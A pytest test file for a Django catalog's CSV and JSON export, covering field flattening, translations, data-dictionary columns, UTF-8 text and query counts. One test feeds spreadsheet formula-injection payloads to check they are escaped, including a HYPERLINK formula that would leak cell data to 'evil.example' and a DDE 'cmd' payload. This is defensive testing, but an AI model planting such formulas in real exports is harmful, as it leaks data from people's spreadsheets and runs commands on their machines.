import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from resilnet.catalog import services
from resilnet.catalog.exports import (
    DATA_DICTIONARY,
    export_rows,
    write_csv,
    write_data_dictionary_csv,
    write_json,
)
from resilnet.catalog.models import Record
from resilnet.catalog.schemas import FIELDS_BY_COLLECTION, parse_content
from resilnet.catalog.taxonomy import ACTION_LINES, Audience, Collection, MeasureCategory
from resilnet.catalog.tests.conftest import measure

NAMES = [column["name"] for column in DATA_DICTIONARY]


def csv_rows(records):
    stream = io.StringIO(newline="")
    write_csv(records, stream)
    stream.seek(0)
    reader = csv.DictReader(stream)
    return reader.fieldnames, list(reader)


def json_export(records):
    stream = io.StringIO()
    count = write_json(records, stream)
    data = json.loads(stream.getvalue())
    assert count == len(data["records"])
    return data


def case(title="Telemedicine for rural clinics", **overrides):
    defaults = {
        "countries": ["EGY", "KEN"],
        "fields": {
            "organisation": "Ministry of Health",
            "action_lines": ["C7.4", "C2"],
            "sdgs": [9, 3],
            "partners": ["WHO", "ITU"],
        },
    }
    return measure(collection="case", title=title, **(defaults | overrides))


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
        "+1",
        "@SUM(A1:A9)",
        "-2+3",
        "=cmd|' /C calc'!A0",
    ],
)
def test_formulas_are_escaped_in_csv(publish, hostile):
    publish(measure(title=hostile, fields={"authority": hostile, "category": "spectrum"}))
    _, [row] = csv_rows(Record.objects.all())
    assert row["title"] == "'" + hostile
    assert row["fields.authority"] == "'" + hostile


def test_a_row_flattens_a_record(publish):
    record = publish(case())
    _, [row] = csv_rows(Record.objects.all())
    assert row["id"] == str(record.pk)
    assert row["collection"] == "case"
    assert row["title"] == "Telemedicine for rural clinics"
    assert row["original_language"] == "en"
    assert row["translations"] == "en"
    assert row["countries"] == "EGY;KEN"
    assert row["itu_regions"] == "africa;arab_states"
    assert row["tags"] == "zero-rating"
    assert row["date"] == "2020-03-20"
    assert row["published_at"].endswith("Z")
    assert row["permalink"] == f"/catalog/records/{record.pk}/"
    assert row["licence"] == "CC-BY-4.0"
    assert row["fields.organisation"] == "Ministry of Health"
    assert row["fields.action_lines"] == "C2;C7.4"
    assert row["fields.sdgs"] == "3;9"
    assert row["fields.partners"] == "WHO;ITU"
    assert row["fields.category"] == ""  # a measure's field, empty for a case


def test_translations_lists_every_language_of_the_title(publish):
    content = measure(title="Gratuité des sites de santé", original_language="fr")
    content["title"]["en"] = "Zero-rating of health sites"
    publish(content)
    [row] = export_rows(Record.objects.all())
    assert row["title"] == "Gratuité des sites de santé"
    assert row["original_language"] == "fr"
    assert row["translations"] == "en;fr"


def test_unpublished_records_are_never_exported(publish, contributor, moderator):
    published = publish(measure(title="Published"))
    archived = publish(measure(title="Archived"))
    services.do_archive(moderator, archived)
    services.do_create_record(contributor, measure(title="Draft"))
    services.do_create_record(contributor, measure(title="Submitted"), submit=True)
    everything = Record.objects.all()
    assert everything.count() == 4
    for records in (everything, list(everything), None):
        assert [row["title"] for row in export_rows(records)] == ["Published"]
    assert [row["title"] for row in csv_rows(everything)[1]] == ["Published"]
    assert [r["id"] for r in json_export(everything)["records"]] == [published.pk]


def test_json_is_valid_and_round_trips_the_content(publish):
    record = publish(case())
    data = json_export(Record.objects.all())
    assert data["data_dictionary"] == DATA_DICTIONARY
    [exported] = data["records"]
    assert exported["id"] == record.pk
    assert exported["status"] == "published"
    assert exported["permalink"] == f"/catalog/records/{record.pk}/"
    assert exported["published_at"].endswith("Z")
    assert exported["updated_at"].endswith("Z")
    content = {key: exported[key] for key in record.content}
    assert content == record.content
    assert parse_content(content).model_dump(mode="json") == record.content


def test_empty_catalog_is_valid_json(db):
    assert json_export(None)["records"] == []


def test_the_dictionary_documents_every_csv_column(publish):
    publish(measure())
    header, _ = csv_rows(None)
    assert header == NAMES
    assert len(set(NAMES)) == len(NAMES)
    for column in DATA_DICTIONARY:
        assert column["type"]
        assert column["description"]
        assert column["collections"]
    schema_fields = {
        name for schema in FIELDS_BY_COLLECTION.values() for name in schema.model_fields
    }
    assert {name for name in NAMES if name.startswith("fields.")} == {
        f"fields.{name}" for name in schema_fields
    }
    stream = io.StringIO(newline="")
    assert write_data_dictionary_csv(stream) == len(DATA_DICTIONARY)
    stream.seek(0)
    assert [row["name"] for row in csv.DictReader(stream)] == header


def test_the_dictionary_takes_allowed_values_from_the_taxonomy():
    by_name = {column["name"]: column for column in DATA_DICTIONARY}
    assert by_name["collection"]["allowed_values"] == Collection.values
    assert by_name["fields.category"]["allowed_values"] == MeasureCategory.values
    assert by_name["fields.category"]["collections"] == ["measure"]
    assert by_name["fields.audiences"]["allowed_values"] == Audience.values
    assert by_name["fields.action_lines"]["allowed_values"] == list(ACTION_LINES)
    assert by_name["fields.sdgs"]["allowed_values"] == list(range(1, 18))
    assert by_name["fields.duration_seconds"]["collections"] == ["podcast", "video"]
    assert by_name["itu_regions"]["allowed_values"] == [
        "africa",
        "americas",
        "arab_states",
        "asia_pacific",
        "cis",
        "europe",
    ]
    assert by_name["title"]["allowed_values"] is None


def test_latin_arabic_and_chinese_text_survive_utf8(publish):
    titles = {
        "fr": "Réseaux résilients : « été » — ça marche",
        "ar": "شبكات الاتصالات في حالات الطوارئ",
        "zh-hans": "远程医疗平台",
    }
    for language, title in titles.items():
        content = measure(title=title, original_language=language)
        content["summary"] = {language: title}
        publish(content)
    binary = io.BytesIO()
    text = io.TextIOWrapper(binary, encoding="utf-8", newline="")
    write_csv(Record.objects.all(), text)
    text.flush()
    rows = list(csv.DictReader(io.StringIO(binary.getvalue().decode("utf-8"), newline="")))
    assert {row["title"] for row in rows} == set(titles.values())
    assert {row["summary"] for row in rows} == set(titles.values())

    binary = io.BytesIO()
    text = io.TextIOWrapper(binary, encoding="utf-8")
    write_json(Record.objects.all(), text)
    text.flush()
    raw = binary.getvalue()
    assert "远程医疗平台".encode() in raw  # written as UTF-8, not \\u escapes
    records = json.loads(raw.decode("utf-8"))["records"]
    assert {next(iter(r["title"].values())) for r in records} == set(titles.values())


def test_queries_do_not_grow_with_the_number_of_records(publish):
    publish(case())
    with CaptureQueriesContext(connection) as one:
        list(export_rows(Record.objects.all()))
    publish(case(title="Second"))
    publish(case(title="Third", countries=["FRA"]))
    with CaptureQueriesContext(connection) as three:
        rows = list(export_rows(Record.objects.all()))
    assert len(rows) == 3
    assert len(three) == len(one)
